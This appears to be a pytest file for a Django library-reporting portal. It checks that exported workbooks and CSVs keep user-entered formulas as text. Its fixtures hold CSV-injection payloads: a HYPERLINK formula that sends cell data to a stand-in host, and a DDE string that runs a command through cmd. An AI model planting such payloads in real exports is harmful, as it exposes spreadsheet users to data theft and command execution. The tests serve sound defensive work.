"""A formula typed by a user stays text in every workbook and CSV the portal writes."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import SuccessStory
from foundation.formulas import FORMULA_START, csv_cell
from libraries.models import Library
from reports.models import ProgressReport
from reports.progress.compile import compile_reports
from reports.progress.exports import render_xlsx

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://contoh.example/?"&A1,"klik")'
PERIOD = dt.date(2021, 8, 1)


@pytest.fixture
def planted():
    """A story (consented: it reaches the reports) and a library named as a formula, in Bangka."""
    library = Library.objects.filter(regency_id="19.01", level="village").order_by("pk").first()
    library.name = FORMULA
    library.save()
    SuccessStory.objects.create(
        library=library,
        date=PERIOD.replace(day=20),
        person_name="+6281234",
        title=FORMULA,
        story="@SUM(1+1)*cmd|' /C calc'!A0",
        consent_to_publish=True,
    )
    return library


def formula_cells(content: bytes) -> list:
    """Every cell holding the planted text, as openpyxl reads the workbook back."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found += [cell for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    return found


def assert_text(content: bytes) -> None:
    cells = formula_cells(content)
    assert cells, "the planted text is in the workbook"
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert FORMULA in cell.value  # exactly as typed (alone, or a library's name in an account's roles)


def test_the_progress_report_workbook_keeps_it_text(planted):
    compile_reports(PERIOD, "province", "19")
    report = ProgressReport.objects.get(period=PERIOD, scope="province", code="19")
    assert_text(render_xlsx(report))


def test_the_dashboard_workbook_keeps_it_text(planted, client_as):
    url = reverse("reports:dashboard_export", args=["regency", "19.01"])
    response = client_as("admin").get(url, {"period_from": "2021-08", "period_to": "2021-08"})
    assert response.status_code == 200
    assert_text(response.content)


@pytest.mark.parametrize("url", ["libraries:library_list", "accounts:user_list", "libraries:commitment_list"])
def test_list_exports_keep_it_text(planted, client_as, url):
    from libraries.models import Commitment, SynergyTeam

    Commitment.objects.create(
        team=SynergyTeam.objects.get(province_id="19"), kind="internet", party=FORMULA, description="-1+1"
    )
    from accounts.models import User

    User.objects.filter(username="pustakawan.rebo").update(first_name=FORMULA, last_name="")
    client = client_as("admin")
    assert_text(client.get(reverse(url), {"export": "xlsx"}).content)
    text = client.get(reverse(url), {"export": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START) and not is_number(cell)]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_csv_helper_prefixes_every_formula_start():
    for start in FORMULA_START:
        assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell("Perpustakaan Desa") == "Perpustakaan Desa"
    assert csv_cell(-5) == -5  # numbers stay numbers
